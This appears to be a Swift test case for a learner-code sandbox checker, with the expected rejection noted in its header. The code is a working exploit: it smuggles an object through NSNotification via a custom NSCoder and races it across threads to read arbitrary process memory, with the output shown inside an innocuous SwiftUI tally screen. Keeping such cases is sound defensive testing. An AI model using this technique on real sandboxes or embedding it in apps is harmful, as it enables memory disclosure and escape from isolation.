// Attack (from a seventh break-it pass of issue 30): build a notification carrying any object from a coder of the
// learner's own (`NSNotification(coder:)`, no `userInfo` named), and have NotificationCenter hand it to an observer on
// an OperationQueue thread, then race on it as in 25 to read any address. NSCoder and NotificationCenter are refused.
// stage: build
// message: hands values of any type to other threads
import Foundation
import ViewSim

struct Quad { var a = 0, b = 0, c = 0, d = 0 }
final class Victim {
    var p0 = 0, p1 = 0
    var s: String = "placeholder placeholder placeholder"
    var p2 = 0, p3 = 0, p4 = 0, p5 = 0, p6 = 0, p7 = 0
}
final class Holder: NSObject {
    var arr: [Quad] = [Quad(), Quad()]
    var keep: [Victim] = []
}
// Builds an NSNotification whose object is any NSObject without naming `userInfo`: init?(coder:) asks the coder.
final class Smuggler: NSCoder {
    let payload: Holder
    init(_ p: Holder) { payload = p; super.init() }
    override var allowsKeyedCoding: Bool { true }
    override func decodeObject(forKey key: String) -> Any? { key == "NS.name" ? NSString(string: "carrier") : payload }
    override func containsValue(forKey key: String) -> Bool { true }
}
let carrierName = Notification.Name("carrier")
func poke(_ q: inout Quad, _ h: Holder, _ address: UInt, _ count: Int) -> [UInt8] {
    NotificationCenter.default.post(NSNotification(coder: Smuggler(h))! as Notification)  // observer frees h.arr on another thread
    q.a = count | (1 << 60)
    q.b = Int(bitPattern: (1 << 63) | (address - 32))
    return Array(h.keep[0].s.utf8)
}
func peek(_ address: UInt, _ count: Int) -> [UInt8] {
    let h = Holder()
    h.keep.reserveCapacity(16)
    let queue = OperationQueue()
    let token = NotificationCenter.default.addObserver(forName: carrierName, object: nil, queue: queue) { note in
        let other = note.object as! Holder
        other.arr = []
        other.keep.append(Victim())
    }
    defer { NotificationCenter.default.removeObserver(token) }
    return poke(&h.arr[0], h, address, count)
}

let report: String = {
    guard let maps = try? String(contentsOfFile: "/proc/self/maps", encoding: .utf8),
          let first = maps.split(separator: "\n").first,
          let start = first.split(separator: "-").first, let address = UInt(start, radix: 16) else { return "no maps" }
    let bytes = peek(address, 16)
    return "first mapping \(first) bytes " + bytes.map { $0 < 16 ? "0\(String($0, radix: 16))" : String($0, radix: 16) }.joined(separator: " ")
}()

struct SessionTally: View {
    @State private var sessions = -1

    var body: some View {
        VStack {
            Text("Sessions today: \(sessions)")
            Button("Log a session") { sessions += 1 }
        }
    }
}

struct FocusScreen: View {
    @State private var showsTally = true

    var body: some View {
        VStack {
            Text("REPORT " + report)
            Toggle("Show tally", isOn: $showsTally)
            if showsTally {
                SessionTally()
            }
        }
    }
}
